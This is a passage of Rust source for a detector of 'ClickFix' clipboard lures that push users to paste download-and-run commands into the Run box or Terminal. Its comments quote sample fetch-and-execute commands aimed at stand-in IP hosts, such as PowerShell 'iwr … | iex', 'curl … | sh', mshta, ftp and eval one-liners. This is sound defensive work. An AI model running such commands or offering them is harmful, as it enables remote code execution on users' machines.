//! ClickFix / FileFix: a page puts a shell command on the clipboard and tells the person to run
//! it (Win+R, Ctrl+V, Enter; or the File Explorer address bar; or Terminal on a Mac), usually
//! behind a "verify you are human" pretext.
//!
//! Two halves, both needed:
//! * [`recognise`] reads the copied text (untrusted, bounded to [`MAX_CLIPBOARD_BYTES`]) for
//!   command shapes: PowerShell with a download or a hidden window, mshta with a URL,
//!   `cmd /c`, rundll32, regsvr32 `/i:http`, msiexec with a URL, certutil and bitsadmin
//!   downloads, `curl|wget … | sh`, `base64 -d | sh`, osascript, and whitespace padding that
//!   pushes a harmless-looking `# comment` into view.
//! * [`assess`] adds what the page says: run-dialog instructions for a Windows command,
//!   a human-verification pretext (on the page or in the command's own comment), or the padding
//!   trick. A developer page with a copy button for `curl … | sh` or `npm install` has none of
//!   these and stays silent.

use super::domain::{host_of, is_user_content, registrable, Site};
use super::lexicon::{lexicon, Cat, Hit};
use super::normalize::{is_cjk, is_invisible, normalize};
use super::weights::{
    CLICKFIX_COMMAND, CLICKFIX_COMMAND_STRONG, CLICKFIX_HIDDEN_COMMAND, CLICKFIX_PRETEXT,
    CLICKFIX_RUN_INSTRUCTIONS,
};
use super::words::{self, Words};
use super::{
    after_last, any_match, count, find, first_chars, join, push_spaces, trim, trim_by, trim_end,
    trim_end_by, trim_start, trim_start_by,
};
pub use crate::snapshot::MAX_CLIPBOARD_BYTES;
use crate::snapshot::{truncate_utf8, Snapshot};
use crate::verdict::{Detail, Group, Kind, Level, Reason, ReasonId, Verdict};
/// Longest command shown in the warning, in characters (an ellipsis marks the cut).
pub const SHOWN_MAX: usize = 120;
/// Whitespace before a `#` comment that only serves to push the command out of view (the Run box
/// shows about 40 characters).
const PAD_BEFORE_COMMENT: usize = 20;
/// Whitespace between two parts of a copied text that hides the first part whatever follows.
const PAD_ANYWHERE: usize = 80;
/// Bytes from a condition word ("if", "si") to the problem it makes hypothetical.
const CONDITION_REACH: usize = 120;
/// Bytes from a troubleshooting heading to the problems of its section.
const HEADING_REACH: usize = 600;
/// Weight of a verification word that names no human check ("verification steps",
/// "verification id"): a pretext in a command's comment or next to a command no docs give.
const GENERIC_VERIFY: f32 = 0.75;
/// Bytes between an infection word and the reader's machine it is claimed about.
const CLAIM_REACH: usize = 90;
/// Words about the attack (distinct, weighted) that make a page a write-up about it.
const ABOUT_ATTACK: f32 = 2.0;
/// Candidate lines read for a command a page shows to be typed by hand.
const TYPED_LINES: usize = 12;
/// Bytes of page text read before and after a command shown to be typed by hand.
const TYPED_BEFORE: usize = 3000;
const TYPED_AFTER: usize = 1500;
/// Bytes between two half-weight run places that name one place ("open File Explorer, click the
/// address bar").
const RUN_PLACE_PAIR: usize = 120;
/// Lines of a copied text that can bury a command among filler (see [`buried`]).
const BURIED_LINES: usize = 16;
/// Bytes of title, text and alt texts (flattened) of a page that says next to nothing: its steps,
/// if any, are in a picture.
const TERSE_PAGE: usize = 160;
/// Check and verify stems, as the flat text has them (ASCII lower-cased, other scripts as written).
/// (Turkish "kontrol" alone is also "control": only its "being checked" form.)
const CHECKS: Words = words::CLICKFIX_CHECKS;
/// Endings after a check stem that make it a status ("確認中", "확인 중입니다").
const STATUS_ENDINGS: Words = words::CLICKFIX_STATUS_ENDINGS;
/// A page saying it copies ("Copy", "Kopiuj", "コピー", "복사", "复制" …).
const COPY: Words = words::CLICKFIX_COPY;
/// A code block's label over an installer: a shell's or a system's name, a tab ("bash", "zsh",
/// "Windows", "macOS / Linux", "Homebrew"), no gate's button (review 46 R46-B2). Whole words of
/// the visible text. ("PowerShell" and "Terminal" are `OFFERS` words already.)
const LABELS: &str = "bash sh zsh fish pwsh cmd macos linux windows unix curl wget npm brew \
                      homebrew winget scoop";
/// A page naming what it offers to run: tools, downloads, a setup, scripts, commands, a shell
/// ("Tools", "Downloads", "Ausführen", "実行"): a lone such word is a portal's, no gate's.
const OFFERS: &str = "tool setup download script shell terminal console command werkzeug \
                      herunterlad skript befehl ausführ konsole outil téléchar exécut \
                      herramient descarg comando ejecut consola strument scaric esegu ferrament \
                      baixar execut opdracht uitvoer narzędz pobier polecen uruchom инструмент \
                      скача команд запуст araç indir komut çalıştır ツール ダウンロード コマンド 実行 \
                      도구 다운로드 명령 실행 工具 下载 下載 命令 运行 執行 执行";

/// Where a command runs: Windows run-dialog instructions only make a Windows command ClickFix.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Platform {
    Windows,
    Unix,
}

/// A recognised command shape.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shape {
    /// PowerShell that downloads and/or executes (`iwr`, `irm`, `DownloadString`, `iex`).
    PowerShellDownload,
    /// `-EncodedCommand` (any accepted prefix: `-e`, `-enc`, `-ec` …).
    PowerShellEncoded,
    /// `-WindowStyle Hidden` / `-w h` / `-w 1`, or `conhost --headless`.
    PowerShellHidden,
    /// `powershell` / `pwsh` with nothing more specific.
    PowerShell,
    /// `mshta` with a URL, a UNC path or an inline script.
    MshtaUrl,
    Mshta,
    /// `cmd /c`, `/k`, `/r`.
    Cmd,
    Rundll32,
    /// `regsvr32 /i:http…` or `scrobj` (squiblydoo).
    Regsvr32Url,
    /// `msiexec` installing from a URL.
    MsiexecUrl,
    /// `wscript`/`cscript` running a script from a URL or a UNC (WebDAV) path.
    ScriptHostUrl,
    /// `certutil -urlcache` / `-decode`.
    Certutil,
    /// `bitsadmin /transfer`.
    Bitsadmin,
    /// `ftp -s:FILE` with commands that fetch or run a program (`echo get r.exe>f&ftp -s:f`).
    FtpScript,
    /// `curl.exe`/`wget` saving a URL to a Windows path and starting it
    /// (`curl.exe … -o %TEMP%\\x.exe & start %TEMP%\\x.exe`).
    DownloadStart,
    /// `base64 -d | sh`, `echo … | base64 --decode | bash`.
    Base64Shell,
    /// `curl`/`wget` downloading a file, `chmod +x` and running it.
    DownloadExec,
    /// `osascript` (AppleScript from the shell).
    Osascript,
    /// `curl`/`wget` piped to a shell, `sh -c "$(curl …)"`, or saved and given to one
    /// (`-o /tmp/v; sh /tmp/v`): also how developer tools install.
    PipeToShell,
    /// A share on an internet host opened from the Run box: a bare `\\host@SSL\DavWWWRoot\x.cmd`
    /// (WebDAV) or `explorer \\host\share`. IT pages give intranet shares, and show them.
    UncOpen,
}

impl Shape {
    /// Stable identifier, shown in reason details and the CLI.
    pub fn id(self) -> &'static str {
        match self {
            Shape::PowerShellDownload => "powershell_download",
            Shape::PowerShellEncoded => "powershell_encoded",
            Shape::PowerShellHidden => "powershell_hidden",
            Shape::PowerShell => "powershell",
            Shape::MshtaUrl => "mshta_url",
            Shape::Mshta => "mshta",
            Shape::Cmd => "cmd",
            Shape::Rundll32 => "rundll32",
            Shape::Regsvr32Url => "regsvr32_url",
            Shape::MsiexecUrl => "msiexec_url",
            Shape::ScriptHostUrl => "script_host_url",
            Shape::Certutil => "certutil_download",
            Shape::Bitsadmin => "bitsadmin_transfer",
            Shape::FtpScript => "ftp_script",
            Shape::DownloadStart => "download_and_start",
            Shape::Base64Shell => "base64_to_shell",
            Shape::DownloadExec => "download_and_run",
            Shape::Osascript => "osascript",
            Shape::PipeToShell => "pipe_to_shell",
            Shape::UncOpen => "unc_open",
        }
    }

    pub fn platform(self) -> Platform {
        match self {
            Shape::Base64Shell | Shape::DownloadExec | Shape::Osascript | Shape::PipeToShell => {
                Platform::Unix
            }
            _ => Platform::Windows,
        }
    }

    /// Shapes no developer copy button needs (as opposed to `curl … | sh`, `cmd /c`, a bare
    /// `powershell`).
    pub fn strong(self) -> bool {
        !matches!(
            self,
            Shape::PowerShell
                | Shape::Mshta
                | Shape::Cmd
                | Shape::Rundll32
                | Shape::PipeToShell
                | Shape::UncOpen
        )
    }
}

/// What the copied text is.
#[derive(Debug, Clone, PartialEq)]
pub struct Command {
    /// Shapes found, strongest first, no duplicates.
    pub shapes: Vec<Shape>,
    /// Whitespace padding hides the command behind a comment or far to the right.
    pub padded: bool,
    /// The command is a line or two among many filler lines (see [`buried`]).
    buried: bool,
    /// The command reaches out of the machine: a URL, a UNC path, `finger`.
    pub remote: bool,
    /// The command's own comment reads as a verification pretext ("# I am not a robot").
    pub comment_pretext: bool,
    /// The command, defanged and cut short: safe to show, never executable as shown.
    pub shown: String,
    /// What the person would see instead: the comment after the command (defanged, short).
    pub comment: String,
    /// The command before any padding, flattened: compared with the page's own text.
    flat: String,
    /// Every address it fetches is how installers are published: https, a host name, and a
    /// named `.ps1` script or `.msi` package (or the site's root, `get.example.sh`).
    published: bool,
    /// The registrable domains it fetches from, when every address is `https://` to a host
    /// name (empty otherwise).
    https_sites: Vec<String>,
}

impl Command {
    /// Whether any shape runs on `p`.
    pub fn runs_on(&self, p: Platform) -> bool {
        self.shapes.iter().any(|s| s.platform() == p)
    }
    #[inline(never)]
    pub fn strong(&self) -> bool {
        self.shapes.iter().any(|s| s.strong())
    }
    /// A Windows command worth warning about next to run-dialog steps alone. A bare `cmd /c` or
    /// `rundll32` that fetches nothing is what IT help articles give for the Run box
    /// (`cmd /c ipconfig /flushdns`, `rundll32 sysdm.cpl,EditEnvironmentVariables`).
    /// Only shapes that install docs and tutorials give: `irm … | iex`, a flagged `powershell`,
    /// `msiexec /i https://…` for PowerShell (Admin) or the Run box; `curl | sh`,
    /// `curl -LO … && chmod +x` and an `osascript` that runs no shell and asks for no password
    /// for Terminal. Anything that hides a window, encodes the script, decodes base64 into a
    /// shell or goes through mshta, regsvr32, certutil … is never documentation.
    pub fn install_like(&self, page: &PageHits) -> bool {
        (self.published || self.fetches_from_site(&page.site) || page.vendor_installer(self))
            && self.shapes.iter().all(|s| match s {
                Shape::PowerShellDownload
                | Shape::PowerShell
                | Shape::MsiexecUrl
                | Shape::PipeToShell
                | Shape::DownloadExec => true,
                // A curl/wget download run: only the page's own installer, named for the site
                // (`QuillNoteSetup.exe` on quillnote.example; a kit on a broken-into site saves
                // `r.exe`: review 33 m42-m44), shown, under the page's own install words, about no
                // video or meeting (a lure's reason to install).
                Shape::Osascript => !["shell script", "hidden answer", "password", "://"]
                    .iter()
                    .any(|w| has(&self.flat, w)),
                _ => false,
            })
    }

    /// Fetches only from the page's own site over https: a project's docs serve its installer
    /// under any path (`irm https://example.com/win | iex` on example.com).
    fn fetches_from_site(&self, page_site: &str) -> bool {
        !page_site.is_empty()
            && !self.https_sites.is_empty()
            && self.https_sites.iter().all(|s| s == page_site)
    }

    /// Fetches only over https from domains the page's site name owns (`notewise-cdn.example`
    /// on notewise.example) or from a code host under an owner so named
    /// (`raw.githubusercontent.com/notewise-app/…`): a vendor's copy button for its installer,
    /// which a kit must register a domain or an account per site to copy (review 35 CX35-H2).
    #[inline(never)]
    fn fetches_from_owned(&self, page_site: &str) -> bool {
        let name = page_site.split('.').next().unwrap_or("");
        let f = self.flat.as_bytes();
        // (Every `com/` in it starts the owner's name: `github.com/notewise-app/…`.)
        let owner = (0..f.len())
            .filter(|&i| f[i..].starts_with(b"com/"))
            .all(|i| {
                f[i + 4..].starts_with(name.as_bytes())
                    && matches!(f.get(i + 4 + name.len()), Some(b'-' | b'/'))
            });
        name.len() >= 4
            && !self.https_sites.is_empty()
            && self.https_sites.iter().all(|s| {
                s.strip_prefix(name)
                    .is_some_and(|r| matches!(r.bytes().next(), Some(b'-' | b'.')))
                    || owner && matches!(s.as_str(), "github.com" | "githubusercontent.com")
            })
    }

    /// Fetches from where no installer is published: 2 for a public IP (any scheme) or a share
    /// on one or over WebDAV, 1 for plain `http://` / `ftp://` from another site than the
    /// page's, 0 otherwise. A private, loopback or intranet address is the person's own network.
    #[inline(never)]
    pub fn lure_fetch(&self, page_site: &str) -> u8 {
        // A WebDAV share on the page's own site is how an IT page maps its drive.
        let unc = unc_host(&self.flat);
        let dav = unc.contains('@') || has(&self.flat, "davwwwroot");
        let elsewhere = !own_share(unc, page_site);
        if unc_reaches_out(&self.flat) && (dav && elsewhere || ip_host(unc)) {
            return 2;
        }
        // A bare public IP given to a program that fetches (`mshta 198.51.100.3`, `iwr
        // 203.0.113.5/a|iex`, `curl 203.0.113.5/x | sh`): no scheme, plain http.
        if self.shapes.iter().any(|s| {
            matches!(
                s,
                Shape::MshtaUrl | Shape::PowerShellDownload | Shape::PipeToShell
            )
        }) && public_ip_arg(&tokens(&self.flat))
        {
            return 2;
        }
        let mut level = 0;
        for t in tokens(&self.flat) {
            // No scheme: fetched over plain http.
            if let Some(h) = bare_host(t) {
                if public_host(h) && !same_site(h, page_site) {
                    level = 1;
                }
                continue;
            }
            let Some(i) = find(t, "://") else { continue };
            let host = host_of(t);
            if public_host(&host) {
                if ip_host(&host) {
                    return 2;
                }
                if !t[..i].ends_with('s') && !same_site(&host, page_site) {
                    level = 1;
                }
            }
        }
        level
    }

    /// Hides what it runs: an encoded or hidden PowerShell, base64 decoded into a shell.
    fn hides_script(&self) -> bool {
        self.shapes.iter().any(|s| {
            matches!(
                s,
                Shape::PowerShellEncoded | Shape::PowerShellHidden | Shape::Base64Shell
            )
        })
    }

    /// Installs a package fetched from elsewhere (`msiexec /i https://…`): a program the person
    /// is never told about unless the page says what it installs. Showing the command names
    /// nothing, so only install words (`install_docs`) excuse it, never a reference example.
    fn installs_package(&self) -> bool {
        self.shapes.contains(&Shape::MsiexecUrl)
    }

    /// A bare `mshta` of a local `.hta` runs an application already installed: fetched from
    /// nowhere, like a local `cmd /c`.
    pub fn windows_payload(&self) -> bool {
        self.shapes.iter().any(|s| {
            s.platform() == Platform::Windows
                && (self.remote || !matches!(s, Shape::Cmd | Shape::Rundll32 | Shape::Mshta))
        })
    }

    /// The command writes a program where it runs (an `.exe`, a script, a shortcut) or into a
    /// Startup folder: a lure's payload, whatever the page says around it (a wiki's download
    /// example fetches an archive or a document).
    fn places_program(&self) -> bool {
        has(&self.flat, "startup")
            || tokens(&self.flat).iter().any(|t| {
                let t = trim_by(t, |c| c == '"' || c == '\'');
                [
                    ".exe", ".scr", ".dll", ".bat", ".cmd", ".ps1", ".vbs", ".js", ".hta", ".lnk",
                    ".jar",
                ]
                .iter()
                .any(|x| t.ends_with(x))
            })
    }

    /// A reference page's example: one command (nothing chained or piped: a lure runs what it
    /// fetched), fetching nothing or only over `https://` from host names, of the shapes a
    /// sysadmin wiki lists (`certutil -urlcache -f https://…`, `bitsadmin /transfer`, a local
    /// `mshta`, a flagged `powershell`); never a download run, a hidden or encoded script.
    fn reference_like(&self) -> bool {
        (!self.remote || !self.https_sites.is_empty())
            && !self.places_program()
            && !self.padded
            && !self.comment_pretext
            && !self.flat.bytes().any(|b| matches!(b, b'&' | b'|' | b';'))
            && self.shapes.iter().all(|s| {
                matches!(
                    s,
                    Shape::PowerShell
                        | Shape::Mshta
                        | Shape::Cmd
                        | Shape::Rundll32
                        | Shape::Certutil
                        | Shape::Bitsadmin
                )
            })
    }
}

/// A ClickFix finding: a command on the clipboard and what makes it an attack.
#[derive(Debug, Clone, PartialEq)]
pub struct ClickFix {
    pub command: Command,
    /// Run-dialog / Terminal instructions found on the page (as normalised text, a few).
    pub instructions: Vec<String>,
    /// The verification pretext found on the page (or in the command's comment).
    pub pretext: Option<String>,
    /// The page shows the command to be typed by hand; nothing was copied.
    pub typed: bool,
    /// The page copied a command that fetches from where no installer publishes (or hides its
    /// script) and does not show it.
    pub unseen: bool,
}

/// The clipboard text as the recogniser reads it: lowercase, escapes and quotes that only hide
/// words from filters removed (`p^o^w^e^r^s^h^e^l^l`, ``i`e`x``, `pow''ershell`), full-width
/// letters folded, invisible characters out, whitespace runs collapsed to one space.
fn flatten(raw: &str) -> String {
    let raw = join_quoted(raw);
    let mut out = String::with_capacity(raw.len());
    let (mut space, mut line) = (false, false);
    for c in raw.chars() {
        if is_invisible(c) || matches!(c, '^' | '`' | '"' | '\'' | '\u{2018}'..='\u{201F}') {
            continue;
        }
        let c = match c as u32 {
            0xFF01..=0xFF5E => char::from_u32(c as u32 - 0xFEE0).unwrap_or(c),
            _ => c,
        };
        if c.is_whitespace() || c.is_control() {
            space = !out.is_empty();
            line |= c == '\n';
            continue;
        }
        if space {
            out.push(' ');
            space = false;
        }
        // A line break ends a command: a `.` starting a line sources a file (review 30 MH-M1).
        if c == '.' && line {
            out.push(';');
        }
        line = false;
        // Only ASCII names run: a look-alike letter makes a program name that does not exist.
        out.push(c.to_ascii_lowercase());
    }
    out
}

/// Quoted pieces joined by `+` read as one string (`('i'+'ex')`, `"Invoke-Web" + "Request"`):
/// the `+` between a closing and an opening quote goes, so the name is whole once quotes are out.
fn join_quoted(raw: &str) -> std::borrow::Cow<'_, str> {
    if !raw.contains('+') {
        return raw.into();
    }
    // Byte-wise: `+`, quotes and the blanks dropped are ASCII, so the rest stays valid UTF-8.
    let b = raw.as_bytes();
    let blank = |c: &u8| c.is_ascii_whitespace();
    let quote = |c: Option<&u8>| matches!(c, Some(b'"' | b'\''));
    let mut out: Vec<u8> = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'+'
            && quote(b[..i].iter().rev().find(|c| !blank(c)))
            && quote(b[i + 1..].iter().find(|c| !blank(c)))
        {
            // Drop the blanks around it too: `'i' + 'ex'` is `iex`.
            while out.last().is_some_and(blank) {
                out.pop();
            }
            i += 1;
            while i < b.len() && blank(&b[i]) {
                i += 1;
            }
            continue;
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8(out).map_or(raw.into(), Into::into)
}

/// Tokens of a flattened command: separated by spaces and shell punctuation.
fn tokens(flat: &str) -> Vec<&str> {
    spans(flat).into_iter().map(|(_, t)| t).collect()
}

/// [`tokens`] with the byte offset each starts at (at most 512).
#[inline(never)]
fn spans(flat: &str) -> Vec<(usize, &str)> {
    let mut out = Vec::new();
    let mut start = None;
    // The separators are ASCII: no byte of a multi-byte character is one.
    for (i, b) in flat.bytes().chain([b' ']).enumerate() {
        if b" |;&(){},".contains(&b) {
            if let Some(s) = start.take() {
                out.push((s, &flat[s..i]));
            }
        } else if start.is_none() {
            start = Some(i);
        }
    }
    out.truncate(512);
    out
}

/// The program name of a token: `C:\Windows\System32\mshta.exe` → `mshta`.
#[inline(never)]
fn program(tok: &str) -> &str {
    let base = base_name(tok);
    base.strip_suffix(".exe").unwrap_or(base)
}

/// Whether one of `toks` is the program `name` (one out-of-line copy of the loop: `shapes` asks
/// it seventeen times).
#[inline(never)]
fn runs(toks: &[&str], name: &str) -> bool {
    toks.iter().any(|t| program(t) == name)
}

/// `needle` occurs in `hay`. One out-of-line copy: the engine's search inlined at every call
/// site cost kilobytes of Wasm here.
#[inline(never)]
fn has(hay: &str, needle: &str) -> bool {
    super::has(hay, needle)
}

/// One of the space-separated `words` occurs in `hay` (one copy of the loop in the Wasm).
#[inline(never)]
fn has_any(hay: &str, words: &str) -> bool {
    words.split(' ').any(|w| has(hay, w))
}

/// `word` occurs in `flat` with no letter or digit on either side.
#[inline(never)]
fn has_word(flat: &str, word: &str) -> bool {
    let b = flat.as_bytes();
    // (An empty word would match at every border.)
    !word.is_empty()
        && any_match(flat, word, &mut |i| {
            let before = i.checked_sub(1).map(|j| b[j]);
            let after = b.get(i + word.len()).copied();
            !before.is_some_and(|x| x.is_ascii_alphanumeric())
                && !after.is_some_and(|x| x.is_ascii_alphanumeric())
        })
}

fn has_url(flat: &str) -> bool {
    has(flat, "http:")
        || has(flat, "https:")
        || unc_reaches_out(flat)
        || has(flat, "ftp:")
        || tokens(flat).iter().any(|t| bare_host(t).is_some())
}

/// The host of a web address written without a scheme (`cdn.example.net/r.exe`,
/// `host.test:8080/x`), which PowerShell and curl fetch over http (review 31 MAIN-M1): a dotted
/// name whose last label is two letters or more, then a path. A file name (`setup.exe`) has no
/// path; a bare host (`get.example.sh`) is left unread, as an installer's root.
#[inline(never)]
fn bare_host(t: &str) -> Option<&str> {
    let b = t.as_bytes();
    let end = b.iter().position(|&c| c == b'/' || c == b':')?;
    let host = &b[..end];
    let dot = host.iter().rposition(|&c| c == b'.')?;
    (b[end..].contains(&b'/')
        && host[0].is_ascii_alphanumeric()
        && host
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || c == b'.' || c == b'-')
        && host.len() - dot > 2
        && host[dot + 1..].iter().all(u8::is_ascii_lowercase))
    .then(|| &t[..end])
}

/// An address whose download is not the site's own publication though it is on the site: its
/// path goes through a site's upload folder (what its users, or whoever broke in, put there:
/// `/wp-content/uploads/…`, `/wp-includes/`), or it names another address a redirect leads to (`/go?to=host/x`,
/// `?u=https%3a%2f%2f…`): review 31 MAIN-M2. `addr` is the address after its scheme.
#[inline(never)]
fn borrowed(addr: &str) -> bool {
    [
        "/wp-",
        "/upload",
        "/sites/default/files/",
        "://",
        "%2f%2f",
        // Folders named for what a site shows or runs itself, not for programs it hands out
        // (review 32 CF32-M2): a vendor never keeps its installer among its images or styles.
        "/images/",
        "/img/",
        "/css/",
        "/js/",
        "/fonts/",
        "/icons/",
        "/media/",
        "/cgi-bin/",
        "/.well-known/",
    ]
    .iter()
    .any(|w| has(addr, w))
        || addr
            .bytes()
            .enumerate()
            .any(|(i, c)| c == b'=' && bare_host(&addr[i + 1..]).is_some())
}

/// The host of the first UNC path of `flat` (empty when there is none).
fn unc_host(flat: &str) -> &str {
    share_host(unc_at(flat))
}

/// `flat` from its first UNC path on (empty when there is none).
#[inline(never)]
fn unc_at(flat: &str) -> &str {
    find(flat, "\\\\").map_or("", |i| &flat[i..])
}

/// A UNC path to a host the internet can serve: a dotted name, an IP, WebDAV's `host@SSL`.
/// A share on a single-label or `.local`-style host (`\\corp\netlogon`) is on the
/// organisation's own network: no web page's author can put a payload there.
fn unc_reaches_out(flat: &str) -> bool {
    any_match(flat, "\\\\", &mut |i| {
        let mut rest = &flat[i + 2..];
        // `\\?\UNC\host\…` and `\\.\UNC\host\…` are the same share as `\\host\…`.
        for prefix in ["?\\unc\\", ".\\unc\\"] {
            if rest
                .get(..prefix.len())
                .is_some_and(|p| p.eq_ignore_ascii_case(prefix))
            {
                rest = &rest[prefix.len()..];
            }
        }
        public_host(rest.split(['\\', '/', ' ']).next().unwrap_or(""))
    })
}

/// A host the internet can serve (of a share or a URL): a dotted name outside the intranet's
/// suffixes, a public IP (also one decimal or `0x` number), WebDAV's `host@SSL`.
fn public_host(host: &str) -> bool {
    const INTRANET: &[&str] = &[
        ".local",
        ".lan",
        ".corp",
        ".internal",
        ".intranet",
        ".home.arpa",
    ];
    // An IP may be written as one number (`\\3405803785`, `\\0xcb007109`): no dot.
    let hex = host.get(..2).is_some_and(|p| p.eq_ignore_ascii_case("0x"))
        && host.len() > 2
        && host[2..].bytes().all(|b| b.is_ascii_hexdigit());
    // No host is no share; a private or loopback address is the local network's.
    !host.is_empty()
        && !private_ip(host)
        && (host.contains('@')
            || hex
            || host.bytes().all(|b| b.is_ascii_digit())
            || host.contains('.') && !INTRANET.iter().any(|s| host.ends_with(s)))
}

/// The host of a UNC path (`\\host\share` → `host`, `\\host@SSL\…` → `host@ssl`).
fn share_host(path: &str) -> &str {
    path.get(2..)
        .unwrap_or("")
        .split(['\\', '/', ' '])
        .next()
        .unwrap_or("")
}

/// A share host that is an IP address (`203.0.113.9`, `3405803785`, `0xcb007109`).
fn ip_host(host: &str) -> bool {
    let h = host.split('@').next().unwrap_or("");
    !h.is_empty()
        && (h.bytes().all(|b| b.is_ascii_digit() || b == b'.')
            || h.starts_with("0x") && h.len() > 2 && h[2..].bytes().all(|b| b.is_ascii_hexdigit())
            || h.ends_with(".ipv6-literal.net"))
}

/// An address no web page's author controls: RFC 1918, loopback, link-local, CGNAT, `0/8`;
/// for IPv6 (`fd00--1.ipv6-literal.net`) unique-local, link-local and loopback.
fn private_ip(host: &str) -> bool {
    let h = host.split('@').next().unwrap_or("");
    if let Some(v6) = h.strip_suffix(".ipv6-literal.net") {
        let v6 = trim_start_by(v6, |c| c == '0' || c == '-');
        return v6.is_empty()
            || v6 == "1"
            || ["fc", "fd", "fe8", "fe9", "fea", "feb"]
                .iter()
                .any(|p| v6.starts_with(p));
    }
    // Dotted quads, or one decimal number (`\\167772161`); a hex number is left to be public.
    let mut n: u64 = 0;
    let mut parts = 0;
    for p in h.split('.') {
        // At most 10 digits (checked first: 20 would overflow the u64).
        if p.len() > 10 {
            return false;
        }
        let v = p
            .bytes()
            .try_fold(0u64, |v, b| {
                b.is_ascii_digit().then(|| v * 10 + u64::from(b - b'0'))
            })
            .filter(|v| parts == 0 || *v < 256);
        let Some(v) = v else { return false };
        n = (n << 8) | v;
        parts += 1;
    }
    if parts != 1 && parts != 4 || n > u64::from(u32::MAX) {
        return false;
    }
    let [a, b, ..] = (n as u32).to_be_bytes();
    matches!(a, 0 | 10 | 127)
        || a == 172 && (16..32).contains(&b)
        || a == 192 && b == 168
        || a == 169 && b == 254
        || a == 100 && (64..128).contains(&b)
}

/// `nslookup` whose answer is run: a TXT query, or the output filtered (`findstr`) or iterated
/// (`for /f`) into the shell. IT pages give a bare `nslookup host` to test a name.
fn dns_payload(flat: &str) -> bool {
    // The answer run as a command: `for /f` over it, or piped to a shell. A TXT lookup alone is
    // what mail admins type (`nslookup -type=txt _dmarc.example`).
    has_word(flat, "nslookup")
        && [
            "for /f",
            "| cmd",
            "|cmd",
            "| powershell",
            "| pwsh",
            "iex",
            "invoke-expression",
        ]
        .iter()
        .any(|w| has(flat, w))
}

/// Shells (the first six) and interpreters: what runs a program given to it on a pipe or as a
/// file; the last three run only a file (`awk -f FILE`, `installer -pkg FILE`: a macOS package's
/// scripts run as root; `open FILE`: a saved app or disk image, review 32 CF32-M3), never what a
/// pipe gives them (`| awk '{print $1}'` reads data).
const RUNNERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "python",
    "python3",
    // Windows' launcher and its windowless Python (no console shows what runs).
    "py",
    "pythonw",
    "perl",
    "ruby",
    "node",
    "php",
    "pwsh",
    "source",
    "awk",
    "installer",
    "open",
];

/// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`). An interpreter that runs the
/// JSON pretty-printer reads the pipe as data, not as its program (`| python3 -m json.tool`, an
/// API doc's: review 28 C-M1).
fn piped_to_shell(flat: &str) -> bool {
    flat.split('|').skip(1).any(|after| {
        // (`| nohup bash &`, `| bash; echo done`: the shell is the word after the pipe.)
        let mut args = tokens(after).into_iter();
        let name = args
            .find(|t| !matches!(*t, "sudo" | "nohup") && !t.starts_with('-'))
            .map_or("", program);
        match RUNNERS[..RUNNERS.len() - 3].iter().position(|s| *s == name) {
            None => false,
            Some(i) if i < 6 => true,
            // Data only for `json.tool` among its leading options (`-u -m json.tool`,
            // `-mjson.tool`): other modules run what they read (`-m code`, `-m asyncio`, `-m pip
            // install -r /dev/stdin`: review 30 CF-M1), and so may inline code (`-c`, `-e`), in
            // more ways than words can list (review 29 C-H2, C-M3).
            _ => !args
                .scan("", |prev, a| {
                    let p = std::mem::replace(prev, a);
                    (p == "-m" || a.len() > 1 && a.starts_with('-')).then_some((p, a))
                })
                .any(|(p, a)| p == "-m" && a == "json.tool" || a == "-mjson.tool"),
        }
    })
}

/// A shell or an interpreter given a file named like an earlier word (`curl -o /tmp/v URL; sh
/// /tmp/v`, `wget URL/v.py` and `python3 v.py` on the next line, `. /tmp/v` starting a command):
/// the download saved, then run, a pipe to a shell by another road (review 29 MAIN-H2). Names
/// are compared by their last path part: `-o /tmp/v`, `--output=/tmp/v`, `>/tmp/v` and the URL
/// wget names its file by end in it. (A `.` elsewhere is an argument: `jq . data.json`.)
/// Review 30 MH-M1: inline code (`-c`, `-e`, `-r`) naming the saved file runs it
/// (`python3 -c "exec(open('/tmp/v').read())"`, `perl -e 'do "/tmp/v"'`), as code reading a pipe
/// does, and so does inline code fetching an address and running it (`fetch_run`); and after an
/// archive is unpacked (`unzip`, `tar x…`) the file a runner is given may be
/// the archive's.
#[inline(never)]
fn runs_saved(flat: &str) -> bool {
    let toks = spans(flat);
    let mut unpacked = false;
    toks.iter().enumerate().any(|(i, &(at, t))| {
        let p = program(t);
        let args = &toks[i + 1..];
        unpacked |= p == "unzip" || p == "tar" && args.first().is_some_and(|a| a.1.contains('x'));
        // A `.` sources a file only where a command starts (a line break is a `;`: `flatten`).
        let start = trim_end(&flat[..at])
            .bytes()
            .last()
            .is_none_or(|b| matches!(b, b';' | b'&' | b'|'));
        if !(RUNNERS.contains(&p) || t == "." && start) {
            return false;
        }
        let saved = |f: &str| saved_before(&toks[..i], f);
        // Inline code may hold `;`: every later word is read.
        if args
            .iter()
            .take_while(|a| a.1.starts_with('-'))
            .any(|a| matches!(a.1, "-c" | "-e" | "-r"))
        {
            return fetch_run(flat) || args.iter().any(|a| saved(a.1));
        }
        args.iter()
            .find(|a| !a.1.starts_with('-'))
            .is_some_and(|a| unpacked || saved(a.1))
    })
}

/// Whether a word of `before` names the file `f` (its last path part): a file the command saved
/// earlier (`runs_saved`; out of line: it was inlined at both its uses, forty-fourth session,
/// Wasm size).
#[inline(never)]
fn saved_before(before: &[(usize, &str)], f: &str) -> bool {
    fn name(t: &str) -> &str {
        &t[t.bytes().rposition(|c| c == b'/').map_or(0, |i| i + 1)..]
    }
    let f = name(f);
    !f.is_empty() && before.iter().any(|e| name(e.1) == f)
}

/// Inline code that fetches an address and runs what it read (`python3 -c
/// "exec(urlopen(…).read())"`, `node -e` with `fetch` and `eval`, `ruby -e 'eval(URI.open(…)
/// .read)'`, `perl -MLWP::Simple -e 'eval get …'`, `php -r 'eval(file_get_contents(…));'`):
/// `curl … | python3` by another road (review 39 R39-M4). Code printing what it fetched is docs'.
#[inline(never)]
fn fetch_run(flat: &str) -> bool {
    has_url(flat)
        && ["exec(", "eval", "new function"]
            .iter()
            .any(|w| has(flat, w))
}

/// `pip install` (`uv pip install`) from a given package index, then an interpreter run
